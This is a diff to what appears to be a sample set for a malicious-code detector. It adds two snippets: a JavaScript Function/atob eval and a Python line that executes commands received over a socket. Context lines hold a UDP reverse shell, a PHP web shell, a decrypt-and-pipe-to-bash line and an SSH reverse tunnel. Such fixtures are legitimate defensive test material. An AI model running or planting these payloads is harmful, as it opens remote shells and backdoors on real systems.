@@ -37,6 +37,7 @@ SAMPLES = {
         "#file:a.rb\neval(['cHV0cyAx'].pack('m').unpack1('m') + Base64.decode64('cHV0cyAx'))\n",
         "#file:a.sh\nopenssl enc -d -aes-256-cbc -in a.bin -k x | bash\n",
         "#file:b.py\ncode = marshal.loads(data)\nexec(code)\n",
+        "#file:c.js\nconst f = Function;\nconst text = atob('MQ==');\nf(text)();\n",
     ],
     "reverse-shell": [
         "sh -i >& /dev/udp/192.0.2.8/53 0>&1\n",
@@ -246,6 +247,7 @@ SAMPLES = {
         "#file:c.js\nsocket.on('message', (m) => exec(m.toString()))\n",
         "#file:d.lua\nlocal line = c:receive()\nio.popen(line)\n",
         "#file:e.php\n<?php system($_GET['c']);\n",
+        "#file:f.py\nsubprocess.getoutput(s.recv(99).decode())\n",
     ],
     "open-door": [
         "ssh -N -R 2222:localhost:22 tea@192.0.2.1\n",
